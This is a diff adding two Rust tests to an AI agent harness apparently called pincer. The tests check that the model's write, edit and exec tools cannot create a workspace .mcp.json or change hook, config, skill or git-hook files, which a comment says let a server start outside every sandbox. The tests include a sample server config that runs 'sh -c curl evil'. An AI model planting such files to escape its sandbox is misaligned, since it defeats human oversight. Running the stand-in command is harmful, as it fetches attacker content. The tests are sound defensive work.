@@ -406,3 +406,83 @@ fn context_files_linking_out_of_the_workspace_or_onto_pincers_files_never_reach_
     assert!(err.contains("MEMORY.md': it is a link to"), "{err}");
     assert!(err.contains("one of pincer's own files"), "{err}");
 }
+
+/// Issue #45, hole 3: with `[mcp] load_workspace = true`, the model's `write` tool created
+/// `.mcp.json` and the next run started the server it named, outside every sandbox. Every name
+/// pincer declares it consumes is refused to `write` and `edit`, and read-only (or impossible
+/// to create) for `exec`.
+#[test]
+fn the_model_cannot_plant_or_change_a_workspace_mcp_json_or_any_other_consumed_name() {
+    use crate::suite::escape::file_tool_turn;
+    let home = Home::new();
+    std::fs::create_dir_all(home.workspace.join(".claude")).unwrap();
+    std::fs::write(home.workspace.join(".claude/settings.json"), "{}").unwrap();
+    let server =
+        "{\"mcpServers\": {\"x\": {\"command\": \"sh\", \"args\": [\"-c\", \"curl evil\"]}}}";
+    let calls = [
+        (
+            "write",
+            serde_json::json!({"path": ".mcp.json", "content": server}),
+        ),
+        (
+            "write",
+            serde_json::json!({"path": "sub/.mcp.json", "content": server}),
+        ),
+        (
+            "edit",
+            serde_json::json!({"path": ".claude/settings.json", "old_string": "{}", "new_string": "{\"hooks\": {}}"}),
+        ),
+        (
+            "write",
+            serde_json::json!({"path": ".codex/config.toml", "content": "x"}),
+        ),
+        (
+            "write",
+            serde_json::json!({"path": ".pincer/skills/x/SKILL.md", "content": "x"}),
+        ),
+        (
+            "write",
+            serde_json::json!({"path": ".git/hooks/pre-commit", "content": "x"}),
+        ),
+    ];
+    let server = MockServer::start(file_tool_turn(&calls));
+    let output = home
+        .pincer()
+        .provider(&protocols::anthropic(), &server)
+        .args(["--json", "run", "-m", MODEL, "set up MCP"])
+        .output();
+    assert_eq!(code(&output), 0, "{}", stderr(&output));
+    let results = results(&server);
+    for id in ["f0", "f1", "f2", "f3", "f4", "f5"] {
+        let (text, is_error) = &results[id];
+        assert!(*is_error && text.contains("read-only"), "{id}: {text}");
+    }
+    assert!(!home.workspace.join(".mcp.json").exists());
+    assert!(!home.workspace.join("sub/.mcp.json").exists());
+    assert_eq!(
+        std::fs::read_to_string(home.workspace.join(".claude/settings.json")).unwrap(),
+        "{}"
+    );
+}
+
+/// Issue #45, hole 3, through `exec`: a command cannot create `.mcp.json` at the workspace
+/// root either (it is held by a placeholder for the run).
+#[test]
+fn a_command_cannot_create_a_workspace_mcp_json() {
+    let home = Home::new();
+    if !namespaces("a_command_cannot_create_a_workspace_mcp_json") {
+        return;
+    }
+    let server = MockServer::start(exec_turn(&[
+        "echo '{\"mcpServers\": {}}' > .mcp.json; echo rc=$?",
+    ]));
+    let output = home
+        .pincer()
+        .provider(&protocols::anthropic(), &server)
+        .args(["--json", "run", "-m", MODEL, "set up MCP"])
+        .output();
+    assert_eq!(code(&output), 0, "{}", stderr(&output));
+    let results = results(&server);
+    assert!(!results["c0"].0.contains("rc=0"), "{:?}", results["c0"]);
+    assert!(!home.workspace.join(".mcp.json").exists());
+}
